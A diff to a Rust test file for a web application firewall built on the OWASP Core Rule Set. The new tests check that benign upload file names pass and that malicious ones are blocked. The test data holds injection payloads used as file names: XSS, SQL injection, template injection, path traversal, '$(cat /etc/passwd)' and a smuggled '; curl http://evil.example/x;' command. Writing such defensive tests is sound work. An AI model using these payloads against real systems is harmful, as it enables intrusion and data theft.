@@ -198,8 +198,8 @@ fn two_of_them_do_and_so_does_a_strong_one() {
     }
 }
 
-/// Each rule that counts for less adds a critical score in CRS, by an action of its first rule: that score is what is taken
-/// back.
+/// Each rule that counts for less adds a critical score in CRS, by itself or by a rule of its chain: that score is what is
+/// moved.
 #[test]
 fn weak_rules_are_critical_ones_of_the_first_level() {
     let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
@@ -222,7 +222,74 @@ fn weak_rules_are_critical_ones_of_the_first_level() {
         let at = crs.find(&format!("\"id:{id},")).unwrap_or_else(|| panic!("{id} is not in CRS"));
         let rule = crs[at..].split("\nSecRule").next().unwrap();
         let adds = "setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'";
-        assert!(rule.contains(adds) && !rule.contains("    chain"), "{id}: {rule}");
+        assert!(rule.contains(adds), "{id}: {rule}");
+    }
+}
+
+/// People give files names with quotes and semicolons, and clients send them as they are or percent-encoded. What is an
+/// attack as a text is one as the name of a file.
+#[test]
+fn names_of_files_are_judged_as_texts_are() {
+    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
+    let form = [("Content-Type", "multipart/form-data; boundary=b")];
+    let body = |name: &str, more: &str| {
+        format!(
+            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\
+             Content-Type: image/png\r\n\r\nx\r\n--b--\r\n{more}"
+        )
+    };
+    for name in [
+        "O'Brien.txt",
+        "Anna's %22final%22; report=2.pdf",
+        "Anna's \\\"final\\\"; report=2.pdf",
+        "Anna%27s%20%22final%22%3B%20report%3D2.pdf",
+        "cats & dogs (1).png",
+        "invoice; 2026-11-23.pdf",
+        "a=b.csv",
+    ] {
+        let body = body(name, "");
+        assert!(!is_blocked(&ours, "/", &("POST", &form, body.as_bytes())), "{name}");
+    }
+    let mut missed = 0;
+    for name in [
+        "<img src=x onerror=alert(1)>.png",
+        "%22><script>alert(1)</script>.png",
+        "1' or '1'='1.png",
+        "x' union select password from users-- -.png",
+        "$(cat /etc/passwd).png",
+        "; curl http://evil.example/x;.png",
+        "{{1337*1338}}.png",
+        "../../etc/passwd",
+    ] {
+        let body = body(name, "");
+        assert!(is_blocked(&ours, "/", &("POST", &form, body.as_bytes())), "{name}");
+        missed += u32::from(!is_blocked(&plain, "/", &("POST", &form, body.as_bytes())));
+    }
+    assert!(missed > 1, "CRS by itself misses {missed}");
+    // Some clients write an empty line behind the last boundary. Anything else there is refused.
+    for (more, blocked) in
+        [("\r\n", false), ("\r\n\r\n", false), ("x", true), ("\r\n--b\r\n", true)]
+    {
+        let body = body("a.png", more);
+        assert_eq!(is_blocked(&ours, "/", &("POST", &form, body.as_bytes())), blocked, "{more:?}");
+    }
+}
+
+/// Bytes that a script of a page sends have no media type; what they say is judged as text.
+#[test]
+fn a_body_without_a_media_type_is_one_weak_signal() {
+    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
+    let length = |body: &[u8]| body.len().to_string();
+    for (body, blocked) in [
+        (&b"{\"a\":1}"[..], false),
+        (b"\x08\x01\x12\x03abc", false),
+        (b"x=1 union select password from users-- -", true),
+        (b"{\"q\":\"<img src=x onerror=alert(1)>\"}", true),
+    ] {
+        let length = length(body);
+        let row: Row<'_> = ("POST", &[("Content-Length", &length)], body);
+        assert_eq!(is_blocked(&ours, "/", &row), blocked, "{body:?}");
+        assert!(is_blocked(&plain, "/", &row), "CRS by itself: {body:?}");
     }
 }
 
